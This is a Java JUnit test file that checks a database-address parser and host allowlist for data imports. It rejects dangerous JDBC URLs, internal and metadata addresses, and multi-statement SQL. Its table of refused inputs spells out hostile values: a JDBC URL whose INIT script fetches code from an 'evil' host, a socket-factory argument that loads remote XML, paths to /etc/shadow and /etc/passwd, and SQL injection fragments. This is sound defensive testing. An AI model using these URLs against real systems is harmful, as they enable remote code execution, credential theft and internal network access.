package io.customerroom.ledger.imports.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.customerroom.kernel.Failure;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.UnknownHostException;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which addresses are connected to, and to which not. */
class DatabaseAddressTest {

    @Test
    void anAddressHasOneHostANameAndHarmlessParameters() {
        assertThat(DatabaseAddress.parse("jdbc:postgresql://db.example.org/shop?sslmode=verify-full&currentSchema=a,b"))
                .isEqualTo(new DatabaseAddress(
                        "db.example.org", 5432, "shop", Map.of("sslmode", "verify-full", "currentSchema", "a,b")));
        assertThat(DatabaseAddress.parse("jdbc:postgresql://[2001:db8::1]:6000/shop"))
                .isEqualTo(new DatabaseAddress("2001:db8::1", 6000, "shop", Map.of()));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            DATABASE_ADDRESS     | jdbc:mysql://db/shop
            DATABASE_ADDRESS     | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'
            DATABASE_ADDRESS     | jdbc:sqlite:/etc/passwd
            DATABASE_ADDRESS     | jdbc:postgresql:shop
            DATABASE_ADDRESS     | jdbc:postgresql://one,two/shop
            DATABASE_ADDRESS     | jdbc:postgresql://one:5432,two:5432/shop
            DATABASE_ADDRESS     | jdbc:postgresql://ana:secret@db/shop
            DATABASE_ADDRESS     | jdbc:postgresql://db:99999/shop
            DATABASE_ADDRESS     | jdbc:postgresql://db/
            DATABASE_ADDRESS     | jdbc:postgresql://db/shop%3Fuser=x
            DATABASE_CREDENTIALS | jdbc:postgresql://db/shop?user=ana
            DATABASE_CREDENTIALS | jdbc:postgresql://db/shop?sslmode=require&password=secret
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?socketFactory=org.x.Y&socketFactoryArg=http://evil/x.xml
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?sslfactory=org.x.Y
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?sslhostnameverifier=org.x.Y
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?loggerLevel=TRACE&loggerFile=/x
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?authenticationPluginClassName=org.x.Y
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?sslkey=/etc/shadow
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?options=-c%20session_preload_libraries=x
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?service=x
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?SSLMODE=require
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?sslmode=none
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?sslmode
            DATABASE_PARAMETER   | jdbc:postgresql://db/shop?currentSchema=a';--
            """)
    void whatElseADriverTakesIsRefusedAndRepeatsNoSecret(String code, String url) {
        Failure failure = catchThrowableOfType(Failure.class, () -> DatabaseAddress.parse(url));
        assertThat(failure.code()).isEqualTo(code);
        assertThat(failure.getMessage() + failure.nextStep()).doesNotContain("secret", "evil", "passwd", "shadow");
    }

    @Test
    void nothingIsReachedThatNobodyNamed() {
        assertThat(refused(List.of(), "db.example.org", "203.0.113.5")).isEqualTo("DATABASE_NOT_NAMED");
        assertThat(refused(List.of("db.example.org:6000"), "db.example.org", "203.0.113.5"))
                .isEqualTo("DATABASE_NOT_NAMED");
        assertThat(refused(List.of("example.org"), "db.example.org", "203.0.113.5"))
                .isEqualTo("DATABASE_NOT_NAMED");
        assertThat(admitted(List.of("DB.example.org"), "db.example.org", "203.0.113.5"))
                .isEqualTo("203.0.113.5");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "127.0.0.1",
                "127.8.8.8",
                "10.0.0.5",
                "172.16.0.1",
                "172.31.255.255",
                "192.168.1.1",
                "169.254.169.254",
                "0.0.0.0",
                "100.64.0.1",
                "192.0.0.192",
                "198.18.0.1",
                "224.0.0.1",
                "255.255.255.255",
                "::1",
                "::",
                "fe80::1",
                "fc00::1",
                "fd00:ec2::254",
                "ff02::1",
                "64:ff9b::7f00:1",
                "2002:7f00:1::",
                "2001:0::1",
                "fec0::1"
            })
    void aNameThatLeadsInsideIsRefusedUnlessTheAddressIsNamedToo(String inside) {
        assertThat(refused(List.of("db.example.org"), "db.example.org", inside)).isEqualTo("DATABASE_INSIDE");
        String literal = literal(inside).getHostAddress();
        String named = literal.contains(":") ? "[" + literal + "]" : literal;
        assertThat(admitted(List.of("db.example.org", named), "db.example.org", inside))
                .isEqualTo(literal);
    }

    @Test
    void ofSeveralAddressesOnlyOneOutsideIsTaken() {
        assertThat(admitted(List.of("db.example.org"), "db.example.org", "169.254.169.254", "203.0.113.5"))
                .isEqualTo("203.0.113.5");
    }

    @Test
    void aSocketGoesToThePinnedAddressWhateverTheNameSaysByThen() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
                Socket socket = new PinnedSockets("127.0.0.1").createSocket()) {
            InetAddress elsewhere = InetAddress.getByAddress("db.example.org", new byte[] {(byte) 203, 0, 113, 5});
            socket.connect(new InetSocketAddress(elsewhere, server.getLocalPort()), 5_000);
            assertThat(socket.getInetAddress()).isEqualTo(InetAddress.ofLiteral("127.0.0.1"));
        }
    }

    @Test
    void oneSelectIsAskedForAndNamesAreQuoted() {
        assertThat(asked(Optional.of("shop.or\"ders"), Optional.empty()).rows()).isEqualTo("\"shop\".\"or\"\"ders\"");
        assertThat(asked(Optional.empty(), Optional.of("SELECT 1;\n")).rows()).isEqualTo("(\nSELECT 1\n) AS asked");
        assertThat(catchThrowableOfType(
                                Failure.class,
                                () -> asked(Optional.empty(), Optional.of("SELECT 1; COMMIT; DROP TABLE x")))
                        .code())
                .isEqualTo("DATABASE_QUERY");
        assertThat(catchThrowableOfType(Failure.class, () -> asked(Optional.empty(), Optional.empty()))
                        .code())
                .isEqualTo("DATABASE_WHAT");
        assertThat(asked(Optional.of("t"), Optional.empty()).toString()).doesNotContain("secret");
    }

    private static DatabaseRequest asked(Optional<String> table, Optional<String> query) {
        return new DatabaseRequest(
                "jdbc:postgresql://db/shop",
                table,
                query,
                Optional.empty(),
                Duration.ZERO,
                new DatabaseRequest.Login("ana", "secret"),
                Duration.ofMinutes(1));
    }

    private static String refused(List<String> named, String host, String... addresses) {
        return catchThrowableOfType(Failure.class, () -> admitted(named, host, addresses))
                .code();
    }

    private static String admitted(List<String> named, String host, String... addresses) {
        return new DatabaseHosts(named)
                .admit(
                        new DatabaseAddress(host, 5432, "shop", Map.of()),
                        asked -> Arrays.stream(addresses)
                                .map(DatabaseAddressTest::literal)
                                .toArray(InetAddress[]::new))
                .getHostAddress();
    }

    private static InetAddress literal(String address) {
        return InetAddress.ofLiteral(address);
    }

    @Test
    void aHostWithoutAnAddressIsSaidSo() {
        DatabaseHosts hosts = new DatabaseHosts(List.of("gone.example.org"));
        DatabaseAddress gone = new DatabaseAddress("gone.example.org", 5432, "shop", Map.of());
        assertThat(catchThrowableOfType(
                                Failure.class,
                                () -> hosts.admit(gone, name -> {
                                    throw new UnknownHostException(name);
                                }))
                        .code())
                .isEqualTo("DATABASE_NOT_FOUND");
    }
}
